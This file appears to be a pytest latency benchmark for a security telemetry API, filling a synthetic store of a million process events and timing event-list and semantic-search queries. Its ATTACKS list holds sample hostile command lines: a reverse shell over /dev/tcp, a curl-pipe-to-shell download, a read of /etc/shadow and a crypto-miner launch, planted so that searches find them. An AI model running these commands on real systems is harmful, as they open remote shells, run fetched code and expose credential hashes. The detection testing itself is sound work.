"""`make bench`: event-list and search latency through the API, over HTTP, on a store of
1,000,000 events across 1,000 workloads (issue 16: p95 <= 150 ms).

Production's path: `ruleless api` (a process) → the sink's query endpoint → the sink's
embedded chdb; search also reads the LanceDB ``behaviours`` table (embedding the query).
The events are bulk-inserted into chdb before the sink opens it (a million through the
worker would take minutes and measure the worker); the behaviours table is written with
the behaviour index's own schema, each distinct exemplar embedded once.
"""

from __future__ import annotations

import statistics
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pyarrow as pa
import pytest

from ruleless.settings import Settings
from sinks.clickhouse import ARROW_SCHEMA, ChdbBackend
from tests.apistack import api_process, pipeline, stack_settings, token
from tests.bench import _behaviours, record

pytestmark = [pytest.mark.bench, pytest.mark.integration]

EVENTS = 1_000_000
WORKLOADS = 1_000
ORGS = 10
BEHAVIOURS_PER_WORKLOAD = 20
EXEMPLARS = 400
HOSTS_PER_WORKLOAD = 20
SPAN_S = 7 * 86_400.0
START = 1_796_000_000.0
ATTACKS = [
    ("bash", "nginx", "www-data", "bash -i >& /dev/tcp/10.0.0.7/4444 0>&1"),
    ("sh", "php-fpm", "www-data", "sh -c curl -fsSL http://203.0.113.9/x.sh | sh"),
    ("cat", "bash", "root", "cat /etc/shadow"),
    ("xmrig", "bash", "app", "xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
]
LIST_P95_TARGET_MS = 150.0


def _org(w: int) -> str:
    return f"org{w % ORGS}"


def _workload(w: int) -> str:
    return f"svc-{w}"


def fleet_store(settings: Settings) -> dict[str, Any]:
    """Write the events (chdb) and their behaviours (LanceDB); what the requests use."""
    rng = np.random.default_rng(16)
    pool = _behaviours(rng, EXEMPLARS)
    # Each workload runs BEHAVIOURS_PER_WORKLOAD of the pool, with Zipf-like popularity;
    # one in five of every org's workloads also ran one attack line once.
    picks = np.stack([rng.choice(EXEMPLARS, BEHAVIOURS_PER_WORKLOAD, replace=False) for _ in range(WORKLOADS)])
    weights = 1.0 / np.arange(1, BEHAVIOURS_PER_WORKLOAD + 1) ** 1.1
    weights /= weights.sum()
    per = EVENTS // WORKLOADS
    w_of = np.repeat(np.arange(WORKLOADS), per)
    slot = rng.choice(BEHAVIOURS_PER_WORKLOAD, size=EVENTS, p=weights)
    exemplar = picks[w_of, slot]
    ts = START + rng.uniform(0, SPAN_S, EVENTS)
    # Scores: the popular behaviours near 0, the tail higher, now and then an outlier.
    score = np.clip(rng.beta(0.6, 12, EVENTS) + (slot >= 15) * rng.uniform(0, 0.6, EVENTS), 0, 1)
    attacked = np.array([w for w in range(WORKLOADS) if (w // ORGS) % 5 == 0])
    attack_at = attacked * per  # (each such workload's first event)
    texts = [c for _, _, _, c in pool] + [c for _, _, _, c in ATTACKS]
    exemplar[attack_at] = EXEMPLARS + (attacked // (ORGS * 5)) % len(ATTACKS)  # (every org gets every kind)
    score[attack_at] = 0.97
    names = np.array([p for p, _, _, _ in pool] + [p for p, _, _, _ in ATTACKS])
    parents = np.array([p for _, p, _, _ in pool] + [p for _, p, _, _ in ATTACKS])
    users = np.array([u for _, _, u, _ in pool] + [u for _, _, u, _ in ATTACKS])
    cmdlines = np.array(texts, dtype=object)
    orgs = np.array([_org(w) for w in range(WORKLOADS)], dtype=object)
    workloads = np.array([_workload(w) for w in range(WORKLOADS)], dtype=object)
    hosts = rng.integers(0, HOSTS_PER_WORKLOAD, EVENTS)
    columns: dict[str, Any] = {
        "event_id": [f"b{i:07d}" for i in range(EVENTS)],
        "ts": ts,
        "org_id": orgs[w_of],
        "workload": workloads[w_of],
        "host": np.char.add("host-", hosts.astype(str)).astype(object),  # (names shared by every org)
        "event_type": np.full(EVENTS, "exec", dtype=object),
        "pid": rng.integers(300, 4_000_000, EVENTS).astype(np.uint64),
        "ppid": rng.integers(1, 4_000_000, EVENTS).astype(np.uint64),
        "uid": np.where(users[exemplar] == "root", 0, 1000).astype(np.int64),
        "user": users[exemplar].astype(object),
        "process_name": names[exemplar].astype(object),
        "cmdline": cmdlines[exemplar],
        "parent_process": parents[exemplar].astype(object),
        "score": score,
        "severity": np.where(score >= 0.9, "alert", np.where(score >= 0.7, "warn", "ok")).astype(object),
        "reasons": [["known behaviour"]] * EVENTS,
        "model": np.full(EVENTS, "evidence/1", dtype=object),
        "learning": np.zeros(EVENTS, dtype=bool),
        "scored_at": (ts * 1e6).astype(np.int64),
    }
    ids = _behaviour_ids(orgs[w_of], workloads[w_of], columns["process_name"], columns["cmdline"], exemplar, w_of)
    if "behaviour_id" in ARROW_SCHEMA.names:
        columns["behaviour_id"] = ids
    backend = ChdbBackend(settings.clickhouse)
    try:
        backend.ensure_schema()
        table = _arrow(columns)
        for i in range(0, EVENTS, 200_000):
            backend.insert(table.slice(i, 200_000), token=f"bench-{i}")
        assert backend.count() == EVENTS
    finally:
        backend.close()
    behaviours = _write_behaviours(settings, columns, ids, exemplar, texts)
    return {"behaviours": behaviours, "span": (float(ts.min()), float(ts.max()))}


def _behaviour_ids(orgs: np.ndarray, workloads: np.ndarray, names: np.ndarray, cmdlines: np.ndarray,
                   exemplar: np.ndarray, w_of: np.ndarray) -> np.ndarray:
    """Each event's behaviour id, computed once per (workload, exemplar)."""
    try:
        from streams.behaviours import behaviour_id
    except ImportError:
        return np.array([f"{w}:{e}" for w, e in zip(w_of, exemplar)], dtype=object)
    key = w_of.astype(np.int64) * 10_000 + exemplar
    uniq, first, inverse = np.unique(key, return_index=True, return_inverse=True)
    probe = type("P", (), {})
    ids = []
    for i in first:
        p = probe()
        p.org_id, p.workload, p.process_name, p.cmdline = orgs[i], workloads[i], names[i], cmdlines[i]
        ids.append(behaviour_id(p))
    return np.array(ids, dtype=object)[inverse]


def _arrow(columns: dict[str, Any]) -> pa.Table:
    arrays = []
    for field in ARROW_SCHEMA:
        if field.name in columns:
            value = columns[field.name]
            if field.name == "scored_at":
                arrays.append(pa.array(value, pa.int64()).cast(field.type))
            else:
                arrays.append(pa.array(value, field.type))
        elif pa.types.is_list(field.type):
            arrays.append(pa.array([[]] * EVENTS, field.type))
        else:
            arrays.append(pa.nulls(EVENTS, field.type))
    return pa.Table.from_arrays(arrays, schema=ARROW_SCHEMA)


def _write_behaviours(settings: Settings, columns: dict[str, Any], ids: np.ndarray, exemplar: np.ndarray,
                      texts: list[str]) -> int:
    """The behaviours table, as the sink's indexer would have written it: one row per
    behaviour, each distinct exemplar embedded once. Returns its row count (0 without
    the behaviour index)."""
    try:
        from ruleless.embedding import embed
        from streams import behaviours as index
    except ImportError:
        return 0
    import lancedb
    from threadpoolctl import threadpool_limits

    with threadpool_limits(limits=1, user_api="blas"):  # (8x faster here than OpenBLAS's pool)
        vectors = embed(texts)
    uniq, first, inverse = np.unique(ids, return_index=True, return_inverse=True)
    counts = np.bincount(inverse)
    ts, score = columns["ts"], columns["score"]
    first_ts = np.full(len(uniq), np.inf)
    last_ts = np.full(len(uniq), -np.inf)
    max_score = np.zeros(len(uniq))
    np.minimum.at(first_ts, inverse, ts)
    np.maximum.at(last_ts, inverse, ts)
    np.maximum.at(max_score, inverse, score)
    rows = {
        "org_id": columns["org_id"][first], "workload": columns["workload"][first], "behaviour_id": uniq,
        "process_name": columns["process_name"][first], "exemplar": columns["cmdline"][first],
        "words": [index.command_words(c) for c in columns["cmdline"][first]],
        "count": counts.astype(np.int64), "first_ts": first_ts, "last_ts": last_ts, "max_score": max_score,
    }
    data = pa.table({k: pa.array(v, index.SCHEMA.field(k).type) for k, v in rows.items()}
                    | {"vector": pa.FixedSizeListArray.from_arrays(pa.array(vectors[exemplar[first]].ravel(), pa.float32()), index.DIM)},
                    schema=index.SCHEMA)
    lancedb.connect(settings.lancedb.uri).create_table(index.TABLE, data, schema=index.SCHEMA, mode="overwrite")
    idx = index.BehaviourIndex(settings.lancedb.uri)
    idx.optimize()  # (the word index)
    return len(uniq)


@pytest.fixture(scope="module")
def served(kafka_bootstrap: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    data = tmp_path_factory.mktemp("apibench")
    settings = stack_settings(data, kafka_bootstrap)
    # The behaviours table is written whole below, as the sink's indexer would have
    # written it over time; its catching up on a million rows at once is not what runs
    # beside the API in production.
    settings = settings.model_copy(update={"sink": settings.sink.model_copy(update={"behaviours": False})})
    started = time.perf_counter()
    store = fleet_store(settings)
    built = time.perf_counter() - started
    with pipeline(settings, data, worker=False), api_process(settings, data) as url:
        yield {"settings": settings, "url": url, "token": token(settings, _org(3)), "built_s": built, **store}


def _timed(client: httpx.Client, method: str, path: str, parts: dict[str, list[float]] | None = None,
           **kwargs: Any) -> tuple[float, Any]:
    started = time.perf_counter()
    resp = client.request(method, path, **kwargs)
    took = (time.perf_counter() - started) * 1000
    assert resp.status_code == 200, (path, resp.status_code, resp.text[:300])
    if parts is not None:  # (the server's own split: Server-Timing)
        for item in resp.headers.get("server-timing", "").split(","):
            name, _, dur = item.strip().partition(";dur=")
            if dur:
                parts.setdefault(name, []).append(float(dur))
    return took, resp.json()


def _pct(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def test_event_list_latency_benchmark(served: dict[str, Any]) -> None:
    rng = np.random.default_rng(1)
    mine = [w for w in range(WORKLOADS) if _org(w) == _org(3)]
    lo, hi = served["span"]
    variants = {
        "latest": lambda: {},
        "workload": lambda: {"workload": _workload(int(rng.choice(mine)))},
        "host": lambda: {"host": f"host-{int(rng.integers(HOSTS_PER_WORKLOAD))}"},
        "severity": lambda: {"severity": "warn,alert"},
        "text": lambda: {"q": str(rng.choice(["export", "backup", "/srv/", "--force", "metrics"]))},
        "score": lambda: {"min_score": 0.5},
        "window": lambda: {"since": str(lo + float(rng.uniform(0, hi - lo - 3600))), "until": str(hi)},
        "program+workload": lambda: {"program": "python3", "workload": _workload(int(rng.choice(mine)))},
    }
    took: dict[str, list[float]] = {name: [] for name in [*variants, "next page"]}
    parts: dict[str, list[float]] = {}
    with httpx.Client(base_url=served["url"], headers={"Authorization": f"Bearer {served['token']}"}, timeout=60) as c:
        for _ in range(3):  # warm-up
            _timed(c, "GET", "/api/events")
        for _ in range(30):
            for name, params in variants.items():
                ms, page = _timed(c, "GET", "/api/events", parts, params={**params(), "limit": 50})
                took[name].append(ms)
                assert all(e["org_id"] == _org(3) for e in page["events"])
                if name == "latest":
                    assert len(page["events"]) == 50 and page["next_cursor"]
                    ms, _ = _timed(c, "GET", "/api/events", params={"limit": 50, "cursor": page["next_cursor"]})
                    took["next page"].append(ms)
    every = [t for values in took.values() for t in values]
    p50, p95 = statistics.median(every), _pct(every, 0.95)
    worst = max(took, key=lambda n: _pct(took[n], 0.95))
    note = (f"{len(every)} GET /api/events (limit 50, an org token, {len(took)} filter mixes) over HTTP → sink query "
            f"endpoint → chdb, {EVENTS:,} events / {WORKLOADS:,} workloads / {ORGS} orgs; slowest mix {worst} "
            f"p95 {_pct(took[worst], 0.95):.1f} ms; the read through the sink (Server-Timing) p50 / p95 "
            f"{statistics.median(parts['events']):.0f} / {_pct(parts['events'], 0.95):.0f} ms; store built in {served['built_s']:.0f} s")
    record("api", "event_list_p50_ms", p50, "ms", "", note)
    record("api", "event_list_p95_ms", p95, "ms", f"<= {LIST_P95_TARGET_MS:g}", note)
    assert p95 <= LIST_P95_TARGET_MS


SEARCHES = ["reverse shell", "download a script and run it", "read password hashes", "crypto miner",
            "database backup", "compress and rotate logs", "sync data to the backup host", "export metrics as json",
            "deploy the api", "clean up old cache files"]


def test_search_latency_benchmark(served: dict[str, Any]) -> None:
    if not served["behaviours"]:
        pytest.skip("no behaviour index in this build (streams.behaviours)")
    took: list[float] = []
    parts: dict[str, list[float]] = {}
    with httpx.Client(base_url=served["url"], headers={"Authorization": f"Bearer {served['token']}"}, timeout=60) as c:
        _timed(c, "POST", "/telemetry/security/search", json={"query": "warm up"})
        for _ in range(8):
            for query in SEARCHES:
                ms, body = _timed(c, "POST", "/telemetry/security/search", parts, json={"query": query, "limit": 20})
                took.append(ms)
                assert body["hits"] and all(h["org_id"] == _org(3) for h in body["hits"])
                assert all(h["event"] is not None and h["event"]["org_id"] == _org(3) for h in body["hits"])
        _, shells = _timed(c, "POST", "/telemetry/security/search", json={"query": "reverse shell", "limit": 20})
    p50, p95 = statistics.median(took), _pct(took, 0.95)
    note = (f"{len(took)} POST /telemetry/security/search (limit 20, {len(SEARCHES)} queries, an org token) over HTTP: "
            f"query embedding + LanceDB ({served['behaviours']:,} behaviours) + the hits' latest events from chdb "
            f"({EVENTS:,} events); in the server (Server-Timing) p50 / p95: "
            + ", ".join(f"{k} {statistics.median(v):.0f} / {_pct(v, 0.95):.0f} ms" for k, v in parts.items()))
    record("api", "search_p50_ms", p50, "ms", "", note)
    record("api", "search_p95_ms", p95, "ms", f"<= {LIST_P95_TARGET_MS:g}", note)
    assert any("/dev/tcp/" in h["cmdline"] for h in shells["hits"])
    assert p95 <= LIST_P95_TARGET_MS
